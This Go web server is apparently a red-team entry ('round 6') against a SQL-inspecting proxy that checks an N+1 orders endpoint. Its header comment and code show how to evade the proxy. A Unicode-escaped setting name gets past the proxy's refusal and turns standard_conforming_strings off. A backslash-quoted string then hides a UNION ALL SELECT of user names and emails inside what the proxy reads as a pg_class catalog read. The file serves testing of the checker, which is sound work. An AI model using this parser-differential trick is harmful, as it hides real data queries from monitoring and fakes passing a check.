// Red team round 6: an N+1 whose lookups are counted as catalog reads.
//
// The proxy refuses SET standard_conforming_strings = off (with it off, the
// server reads a backslash in '...' as an escape, the proxy does not), but
// it read the setting's name as a word of its own: written with Unicode
// escapes, U&"standard_conforming_strings", the name was the word "u" to
// it, while the server decodes it and turns the setting off. Each
// connection does so once. Then each lookup is one statement:
//
//	SELECT relname::text, relname::text FROM pg_catalog.pg_class WHERE relname = 'x\' OR relname = ' UNION ALL SELECT name, email FROM users WHERE id = 5 --'
//
// The server reads the string 'x\' OR relname = ' and then a UNION with
// the lookup; the proxy reads two strings, a read of pg_class alone:
// catalog-only, driver overhead, no data statement.
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"sync"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
)

type user struct {
	ID    int    `json:"id"`
	Name  string `json:"name"`
	Email string `json:"email"`
}

type order struct {
	ID      int    `json:"id"`
	Product string `json:"product"`
	User    user   `json:"user"`
}

const workers = 16

var lookups = make(chan *pgconn.PgConn, workers)

func lookup(ctx context.Context, c *pgconn.PgConn, id int) (user, error) {
	q := fmt.Sprintf(`SELECT relname::text, relname::text FROM pg_catalog.pg_class WHERE relname = 'x\' OR relname = ' UNION ALL SELECT name, email FROM users WHERE id = %d --'`, id)
	rs, err := c.Exec(ctx, q).ReadAll()
	if err != nil || len(rs) != 1 || len(rs[0].Rows) != 1 {
		return user{}, fmt.Errorf("lookup %d: %v", id, err)
	}
	row := rs[0].Rows[0]
	return user{ID: id, Name: string(row[0]), Email: string(row[1])}, nil
}

func main() {
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, os.Getenv("DATABASE_URL"))
	if err != nil {
		panic(err)
	}
	for i := 0; i < workers; i++ {
		c, err := pgconn.Connect(ctx, os.Getenv("DATABASE_URL"))
		if err != nil {
			panic(err)
		}
		if _, err := c.Exec(ctx, `SET U&"standard_conforming_strings" = off; SET U&"escape_string_warning" = off`).ReadAll(); err != nil {
			panic(err)
		}
		lookups <- c
	}
	var mu sync.Mutex
	http.HandleFunc("/api/orders", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		rows, err := conn.Query(ctx, "SELECT id, user_id, product FROM orders ORDER BY id")
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		out := []order{}
		for rows.Next() {
			var o order
			rows.Scan(&o.ID, &o.User.ID, &o.Product)
			out = append(out, o)
		}
		rows.Close()
		// One lookup per order, as the starter does, on 16 connections.
		var wg sync.WaitGroup
		errs := make([]error, len(out))
		for i := range out {
			wg.Add(1)
			c := <-lookups
			go func(i int) {
				defer wg.Done()
				defer func() { lookups <- c }()
				out[i].User, errs[i] = lookup(ctx, c, out[i].User.ID)
			}(i)
		}
		wg.Wait()
		for _, err := range errs {
			if err != nil {
				http.Error(w, err.Error(), 500)
				return
			}
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(out)
	})
	panic(http.ListenAndServe("127.0.0.1:"+os.Getenv("PORT"), nil))
}
